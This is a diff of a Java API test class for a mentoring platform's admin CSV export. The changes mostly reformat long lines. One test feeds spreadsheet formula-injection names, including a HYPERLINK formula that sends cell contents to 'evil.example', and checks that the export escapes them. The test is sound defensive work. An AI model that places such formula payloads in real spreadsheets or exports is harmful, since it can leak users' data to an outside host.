@@ -37,7 +37,8 @@ class CsvApiTest extends ApiTest {
 
     @ParameterizedTest
     @ValueSource(strings = {
-        "booking-requests", "mocks", "mentors", "mentees", "companies", "time-slots", "meet-links", "pricing-plans", "orders", "feedbacks"})
+        "booking-requests", "mocks", "mentors", "mentees", "companies", "time-slots", "meet-links", "pricing-plans",
+        "orders", "feedbacks"})
     void exportsEveryAdminListAsCsv(String list) {
         var filter = list.equals("time-slots") ? "mentor_id=" + rows().mentor.id() : "q=" + rows().marker;
         var path = "/api/admin/" + list + "?limit=100&" + filter;
@@ -46,14 +47,16 @@ class CsvApiTest extends ApiTest {
         var csv = table().get(path).expect(200);
 
         assertThat(csv.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
-        assertThat(csv.header("Content-Disposition")).matches("attachment; filename=\"" + list + "-\\d{4}-\\d\\d-\\d\\d\\.csv\"");
+        assertThat(csv.header("Content-Disposition"))
+                .matches("attachment; filename=\"" + list + "-\\d{4}-\\d\\d-\\d\\d\\.csv\"");
         assertThat(csv.header("Cache-Control")).isEqualTo("no-store");
         assertThat(csv.headers().allValues("Vary")).contains("Accept");
         assertThat(json.headers().allValues("Vary")).contains("Accept");
         var cells = cells(csv);
         var header = cells.getFirst();
         assertThat(json.data()).isNotEmpty();
-        assertThat(header).doesNotHaveDuplicates().noneMatch(name -> name.matches("role|currency|version|(.+[_.])?(created|confirmed|decided)_by"));
+        assertThat(header).doesNotHaveDuplicates()
+                .noneMatch(name -> name.matches("role|currency|version|(.+[_.])?(created|confirmed|decided)_by"));
         assertThat(header.getFirst()).isIn("id", "plan_id");
         assertThat(cells).hasSize(json.data().size() + 1).allMatch(row -> row.size() == header.size());
         for (int row = 0; row < json.data().size(); row++) {
@@ -61,7 +64,9 @@ class CsvApiTest extends ApiTest {
                 var name = header.get(column);
                 var value = json.data().get(row).at("/" + name.replaceFirst(" \\(.*", "").replace('.', '/'));
                 assertThat(value.isMissingNode()).as(name).isEqualTo(name.startsWith("no_show."));
-                if (!value.isContainer()) assertThat(cells.get(row + 1).get(column)).as(name).isEqualTo(shown(name, value));
+                if (!value.isContainer()) {
+                    assertThat(cells.get(row + 1).get(column)).as(name).isEqualTo(shown(name, value));
+                }
             }
         }
     }
@@ -88,7 +93,8 @@ class CsvApiTest extends ApiTest {
 
     @Test
     void namesTheFileAfterTheDayInThePlatformTimeZone() {
-        advance(Duration.between(now(), LocalDate.ofInstant(now(), ZONE).plusDays(1).atTime(1, 0).atZone(ZONE).toInstant()));
+        advance(Duration.between(
+                now(), LocalDate.ofInstant(now(), ZONE).plusDays(1).atTime(1, 0).atZone(ZONE).toInstant()));
 
         var name = table().get("/api/admin/mentees").expect(200).header("Content-Disposition");
 
@@ -110,14 +116,15 @@ class CsvApiTest extends ApiTest {
     void escapesNamesThatLookLikeFormulas() {
         var marker = PersonFixtures.uniqueMarker();
         var hostile = List.of(
-                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\") " + marker, "@SUM(1+1) " + marker, "＝1+1 " + marker,
-                "Zoë, \"the\" 🚀 " + marker);
+                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\") " + marker, "@SUM(1+1) " + marker,
+                "＝1+1 " + marker, "Zoë, \"the\" 🚀 " + marker);
         hostile.forEach(given::freeMentee);
 
         var csv = table().get("/api/admin/mentees?sort=created_at&q=" + marker).expect(200);
 
         var names = cells(csv).stream().skip(1).map(row -> row.get(1)).toList();
-        assertThat(names).containsExactly("'" + hostile.get(0), "'" + hostile.get(1), "'" + hostile.get(2), hostile.get(3));
+        assertThat(names).containsExactly(
+                "'" + hostile.get(0), "'" + hostile.get(1), "'" + hostile.get(2), hostile.get(3));
     }
 
     @Test
@@ -128,12 +135,16 @@ class CsvApiTest extends ApiTest {
             var part = table().get(next).expect(200);
             cells(part).stream().skip(1).forEach(row -> ids.add(row.getFirst()));
             var link = part.header("Link");
-            if (link != null) assertThat(link).matches("</api/admin/mentees\\?limit=2&sort=name&q=[0-9a-f]+&cursor=[\\w-]+>; rel=\"next\"");
+            if (link != null) {
+                assertThat(link).matches(
+                        "</api/admin/mentees\\?limit=2&sort=name&q=[0-9a-f]+&cursor=[\\w-]+>; rel=\"next\"");
+            }
             next = link == null ? null : link.substring(1, link.indexOf('>'));
         }
 
         assertThat(ids).hasSize(5).doesNotHaveDuplicates().isEqualTo(
-                as(given.admin()).get("/api/admin/mentees?sort=name&q=" + rows().marker).data().findValuesAsString("id"));
+                as(given.admin()).get("/api/admin/mentees?sort=name&q=" + rows().marker).data()
+                        .findValuesAsString("id"));
     }
 
     @Test
@@ -156,7 +167,8 @@ class CsvApiTest extends ApiTest {
     @Test
     void returnsErrorsAsJson() {
         anonymous().header("Accept", "text/csv").get("/api/admin/mentees").expect(401, ErrorCode.UNAUTHENTICATED);
-        as(given.freeMentee()).header("Accept", "text/csv").get("/api/admin/mentees").expect(403, ErrorCode.FORBIDDEN_ROLE);
+        as(given.freeMentee()).header("Accept", "text/csv").get("/api/admin/mentees")
+                .expect(403, ErrorCode.FORBIDDEN_ROLE);
         as(given.mentor()).header("Accept", "text/csv").get("/api/admin/orders").expect(403, ErrorCode.FORBIDDEN_ROLE);
         table().get("/api/admin/mentees?sort=email").expectInvalid("sort");
         table().get("/api/admin/mentees?cursor=x").expect(400, ErrorCode.MALFORMED_REQUEST);
@@ -172,7 +184,9 @@ class CsvApiTest extends ApiTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"*/*", "application/json", "application/json, text/csv", "text/csv;q=0.5, application/json", "text/html, */*;q=0.8"})
+    @ValueSource(strings =
+            {"*/*", "application/json", "application/json, text/csv", "text/csv;q=0.5, application/json",
+            "text/html, */*;q=0.8"})
     void returnsJsonWhenJsonIsPreferred(String accept) {
         var response = as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(200);
 
@@ -181,7 +195,9 @@ class CsvApiTest extends ApiTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"text/csv;charset=UTF-8", "text/*", "text/csv, application/json;q=0.5", "text/csv, */*;q=0.1", "text/html, text/csv"})
+    @ValueSource(strings =
+            {"text/csv;charset=UTF-8", "text/*", "text/csv, application/json;q=0.5", "text/csv, */*;q=0.1",
+            "text/html, text/csv"})
     void returnsCsvWhenCsvIsPreferred(String accept) {
         var response = as(given.admin()).header("Accept", accept).get("/api/admin/mentees?limit=200").expect(200);
 
@@ -203,7 +219,8 @@ class CsvApiTest extends ApiTest {
 
     @Test
     void usesUtf8WhateverTheAcceptCharset() {
-        var response = as(given.admin()).header("Accept", "text/csv;charset=iso-8859-1").get("/api/admin/mentees").expect(200);
+        var response = as(given.admin()).header("Accept", "text/csv;charset=iso-8859-1").get("/api/admin/mentees")
+                .expect(200);
 
         assertThat(response.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
     }
@@ -224,7 +241,8 @@ class CsvApiTest extends ApiTest {
         int end = 0;
         while (end < csv.text().length() && cell.find()) {
             var text = cell.group(1);
-            table.getLast().add(text.startsWith("\"") ? text.substring(1, text.length() - 1).replace("\"\"", "\"") : text);
+            table.getLast().add(text.startsWith("\"")
+                    ? text.substring(1, text.length() - 1).replace("\"\"", "\"") : text);
             if (cell.group(2).equals("\r\n")) table.add(new ArrayList<>());
             end = cell.end();
         }
